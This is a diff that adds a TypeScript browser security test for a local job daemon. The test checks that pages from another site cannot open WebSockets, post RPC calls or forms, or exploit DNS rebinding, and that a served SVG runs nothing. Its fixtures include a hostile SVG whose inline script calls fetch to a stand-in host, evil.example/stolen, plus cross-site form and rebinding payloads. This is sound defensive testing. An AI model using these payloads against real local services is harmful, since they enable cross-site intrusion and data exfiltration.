@@ -1,0 +1,141 @@
+import { mkdir, writeFile } from 'node:fs/promises'
+import { createServer, type Server } from 'node:http'
+import type { AddressInfo } from 'node:net'
+import { join } from 'node:path'
+import { type Browser, chromium, type Page } from 'playwright-core'
+import { afterAll, beforeAll, describe, expect, it } from 'vitest'
+import { browserPath, QUIET } from '../support/browser.ts'
+import { type Desk, desk, TOKEN } from '../support/desk.ts'
+
+const SUBMIT = JSON.stringify({
+  jsonrpc: '2.0',
+  id: 1,
+  method: 'job.submit',
+  params: { task: 'pattern', params: { pattern: 'spiral' } },
+})
+
+let daemon: Desk
+let evil: Server
+let evilUrl: string
+let browser: Browser
+/** What reached the attacker's own server. */
+const stolen: string[] = []
+beforeAll(async () => {
+  daemon = await desk()
+  evil = createServer((request, response) => {
+    if (/^\/(stolen|pixel)/.test(request.url ?? '')) stolen.push(request.url ?? '')
+    response.setHeader('content-type', 'text/html').end('<!doctype html><title>evil</title>')
+  })
+  await new Promise<void>((resolve) => evil.listen(0, '127.0.0.1', resolve))
+  evilUrl = `http://evil.example:${(evil.address() as AddressInfo).port}`
+  if (browserPath === undefined) throw new Error('no Chromium: apt-get install chromium, or set CHROMIUM')
+  const rules = '--host-resolver-rules=MAP evil.example 127.0.0.1, MAP rebound.example 127.0.0.1'
+  // Some browsers keep pages from local addresses by themselves; others do not, so that is not leant on.
+  const bare = '--disable-features=LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests'
+  browser = await chromium.launch({ executablePath: browserPath, args: [...QUIET, rules, bare] })
+}, 60_000)
+afterAll(async () => {
+  await browser.close()
+  evil.close()
+  await daemon.close()
+})
+
+const jobs = async () => (await daemon.spool.list()).total
+
+async function on(url: string, run: (page: Page) => Promise<void>): Promise<void> {
+  const page = await browser.newPage()
+  try {
+    await page.goto(url)
+    await run(page)
+  } finally {
+    await page.close()
+  }
+}
+
+/** In the page: 'open' or 'refused'. */
+const dial = (page: Page, url: string, token: string) =>
+  page.evaluate(
+    `new Promise((resolve) => {
+      const socket = new WebSocket(${JSON.stringify(url)}, ['plotd', 'plotd.token.' + ${JSON.stringify(token)}])
+      socket.onopen = () => resolve('open')
+      socket.onerror = () => resolve('refused')
+    })`,
+  )
+
+/** In the page: what a program there can read of the answer. */
+const read = (page: Page, url: string, init: object = {}) =>
+  page.evaluate(
+    `fetch(${JSON.stringify(url)}, ${JSON.stringify(init)}).then(
+      async (answer) => answer.type + ' ' + answer.status + ' ' + (await answer.text()),
+      () => 'nothing')`,
+  ) as Promise<string>
+
+const post = { method: 'POST', body: SUBMIT }
+const json = { 'content-type': 'application/json', authorization: `Bearer ${TOKEN}` }
+
+describe('a page of another site, in a browser', () => {
+  it('can open no WebSocket, even if it had the token', async () => {
+    await on(evilUrl, async (page) => {
+      expect(await dial(page, `ws://127.0.0.1:${daemon.port}/v1`, TOKEN)).toBe('refused')
+      expect(await dial(page, `ws://localhost:${daemon.port}/v1`, TOKEN)).toBe('refused')
+    })
+    const client = await daemon.client() // the same door, by one who may
+    client.close()
+  })
+
+  it('can send no call without asking first, and is not given leave to ask', async () => {
+    const before = await jobs()
+    await on(evilUrl, async (page) => {
+      const simple = { ...post, mode: 'no-cors', headers: { 'content-type': 'text/plain' } }
+      expect(await read(page, `${daemon.url}/rpc`, simple)).toBe('opaque 0 ')
+      expect(await read(page, `${daemon.url}/rpc`, { ...post, headers: json })).toBe('nothing')
+      expect(await read(page, `${daemon.url}/healthz`)).toBe('nothing')
+    })
+    expect(await jobs()).toBe(before)
+  })
+
+  it('can send no form', async () => {
+    const before = await jobs()
+    await on(evilUrl, async (page) => {
+      const sent = page.waitForResponse((response) => response.url() === `${daemon.url}/rpc`)
+      await page.evaluate(`
+        document.body.innerHTML = '<form method=post enctype=text/plain action="${daemon.url}/rpc"><input name=x></form>'
+        document.querySelector('input').name = ${JSON.stringify(SUBMIT)}
+        document.querySelector('form').submit()`)
+      expect((await sent).status()).toBe(403)
+    })
+    expect(await jobs()).toBe(before)
+  })
+
+  it('gets nowhere with a name that DNS has turned to this machine', async () => {
+    const rebound = `http://rebound.example:${daemon.port}`
+    const page = await browser.newPage()
+    // The page itself came from the attacker before the name was turned; what it asks for now comes here.
+    await page.route(`${rebound}/`, (route) => route.fulfill({ contentType: 'text/html', body: '<!doctype html>' }))
+    await page.goto(`${rebound}/`)
+    expect(await read(page, '/rpc', { ...post, headers: json })).toMatch(/^basic 403 .*ERR_FORBIDDEN/)
+    expect(await read(page, '/healthz')).toMatch(/^basic 403/)
+    expect(await dial(page, `ws://rebound.example:${daemon.port}/v1`, TOKEN)).toBe('refused')
+    await page.close()
+  })
+})
+
+describe('an SVG that carries a script, opened by itself', () => {
+  it('runs nothing and sends nothing anywhere', async () => {
+    await mkdir(daemon.config.output, { recursive: true })
+    const script = `document.title = 'ran'; fetch('${evilUrl}/stolen')`
+    const image = `<image href="${evilUrl}/pixel.png" width="1" height="1"/>`
+    const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="9mm" height="9mm"><title>calm</title>${image}
+      <script>${script}</script></svg>`
+    await writeFile(join(daemon.config.output, 'hostile.svg'), svg)
+    const context = await browser.newContext({ extraHTTPHeaders: { authorization: `Bearer ${TOKEN}` } })
+    const page = await context.newPage()
+    const response = await page.goto(`${daemon.url}/output/hostile.svg`)
+    expect(response?.status()).toBe(200)
+    await page.waitForLoadState('networkidle')
+    expect(await page.title()).toBe('calm')
+    expect(await page.locator('svg').count()).toBe(1)
+    expect(stolen).toEqual([])
+    await context.close()
+  })
+})
